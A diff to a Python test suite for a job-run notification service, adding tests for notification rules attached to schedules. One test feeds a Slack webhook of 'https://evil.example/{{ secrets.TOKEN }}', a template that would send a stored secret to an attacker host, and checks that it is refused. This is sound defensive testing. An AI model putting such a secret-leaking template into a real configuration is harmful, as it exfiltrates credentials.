@@ -1,5 +1,7 @@
 """People are told of runs as the rules say: once, by each channel, one message a minute, whoever follows the log."""
 
+from dataclasses import replace
+
 import pytest
 from notified import (
     Runs,
@@ -14,9 +16,17 @@ from notified import (
     text_of,
     told,
 )
-from stage import opened
+from stage import ADMIN, opened
 
+from listener_sdk.protocol.codes import Refusal
+from listener_sdk.protocol.schedules import ScheduleCreate
+from server.commands.schedules import CREATE_SCHEDULE, DELETE_SCHEDULE, CreateSchedule, DeleteSchedule
 from server.engine.notifier import Notifier
+
+
+async def scheduled(stage, row, actor=ADMIN, **fields):
+    body = ScheduleCreate.model_validate({"cron": "0 3 * * *", **fields})
+    return await stage.do(CREATE_SCHEDULE, CreateSchedule(actor, row.code, body))
 
 
 @pytest.fixture
@@ -218,7 +228,7 @@ async def test_a_run_that_did_not_happen_is_told_to_who_asked_for_it(stage, offi
     )
     skipped = {
         "definition": "nightly",
-        "schedule": "every night",
+        "name": "every night",
         "dueAt": "2026-01-01T03:00:00.000Z",
         "reason": "overlap",
         "message": "The run before it had not ended.",
@@ -239,7 +249,7 @@ async def test_administrators_hear_of_a_schedule_that_failed_whatever_the_rules(
     await set_aside(stage, gone)
     failed = {
         "definition": "nightly",
-        "schedule": "every night",
+        "name": "every night",
         "dueAt": "2026-01-01T03:00:00.000Z",
         "reason": "owner_inactive",
         "message": "Its owner was set aside.",
@@ -248,7 +258,7 @@ async def test_administrators_hear_of_a_schedule_that_failed_whatever_the_rules(
     await tell(stage)
     assert [str(mail["To"]) for mail in office.mails] == ["boss@example.com"]
     [mine] = await inbox(stage, boss)
-    assert (mine["title"], mine["text"]) == ("nightly did not run", "Its owner was set aside.")
+    assert (mine["title"], mine["text"]) == ("every night did not run", "Its owner was set aside.")
     assert "as an administrator of the space Default" in text_of(office.mails[0])
 
 
@@ -291,3 +301,54 @@ async def test_a_thousand_failures_of_a_minute_are_two_messages(stage, office):
     await tell(stage)
     first, second = (int(mail["Subject"].split()[2]) for mail in office.mails)
     assert first + second == 1_001
+
+
+async def test_rules_of_a_schedule_tell_of_its_own_runs_alone(stage, office):
+    row = await told(stage, "nightly")
+    rule = {"missed": True, "channels": ["email"], "addresses": ["a@b.example"]}
+    schedule = await scheduled(stage, row, notifications=[rule])
+    by = {"kind": "schedule", "scheduleId": schedule.public_id, "name": "every night"}
+    runs = Runs(stage)
+    await runs.end(row)
+    await tell(stage)
+    assert office.mails == []
+    await runs.end(row, by=by)
+    await tell(stage)
+    await say(stage, "schedule:skipped", {"schedule": schedule.public_id, "definition": "nightly"})
+    await tell(stage)
+    stage.clock.forward(60)
+    await tell(stage)
+    assert [mail["Subject"] for mail in office.mails] == [
+        "[Default] nightly failed",
+        "[Default] nightly did not run",
+    ]
+    assert "rule of the schedule" in text_of(office.mails[0])
+
+
+async def test_what_waits_for_a_rule_of_a_schedule_goes_with_it(stage, office):
+    row = await told(stage, "nightly")
+    schedule = await scheduled(
+        stage, row, notifications=[{"channels": ["email"], "addresses": ["a@b.example"]}]
+    )
+    runs = Runs(stage)
+    for _ in range(2):
+        await runs.end(row, by={"kind": "schedule", "scheduleId": schedule.public_id})
+        await tell(stage)
+    await stage.do(DELETE_SCHEDULE, DeleteSchedule(ADMIN, schedule.id))
+    assert await stage.rows("SELECT 1 FROM notification_rule") == []
+    stage.clock.forward(60)
+    assert await tell(stage) == 0
+
+
+async def test_rules_of_a_schedule_are_checked_and_take_secrets_from_those_who_may_use_them(stage):
+    row = await told(stage, "nightly")
+    with pytest.raises(Refusal) as raised:
+        await scheduled(stage, row, notifications=[{"channels": ["inbox"], "members": ["us_mem_0000000099"]}])
+    assert raised.value.key == "notifications[0].members[0]"
+    secret = {"channels": ["slack"], "slack": "https://evil.example/{{ secrets.TOKEN }}"}
+    with pytest.raises(Refusal) as raised:
+        await scheduled(stage, row, replace(ADMIN, role="operator"), notifications=[secret])
+    assert raised.value.code == "forbidden"
+    with pytest.raises(Refusal) as raised:
+        await scheduled(stage, row, notifications=[secret])
+    assert "there is no secret TOKEN" in raised.value.message
